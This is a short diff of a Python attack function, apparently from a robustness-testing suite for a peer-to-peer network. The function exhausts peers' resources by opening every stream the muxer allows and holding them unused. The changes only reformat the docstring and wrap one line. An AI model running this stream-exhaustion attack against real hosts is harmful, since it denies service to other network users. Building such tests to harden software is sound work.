@@ -1,4 +1,7 @@
-"""As many streams as the muxer gives, opened and left, on every connection: each took a handler that waited for a first frame."""
+"""As many streams as the muxer gives, opened on every connection and not used (K-D).
+
+Each took a handler that waited for a first frame.
+"""
 
 from __future__ import annotations
 
@@ -16,7 +19,9 @@ async def attack(target: Target) -> None:
             peers = list(host.get_connected_peers())
             if not peers:
                 continue
-            stream = await quietly(host.new_stream, peers[number % len(peers)], [PROTOCOLS[number % len(PROTOCOLS)]], timeout_s=1.0)
+            stream = await quietly(
+                host.new_stream, peers[number % len(peers)], [PROTOCOLS[number % len(PROTOCOLS)]], timeout_s=1.0
+            )
             if stream is not None:
                 held.append(stream)
             if len(held) > HELD * len(target.addresses):
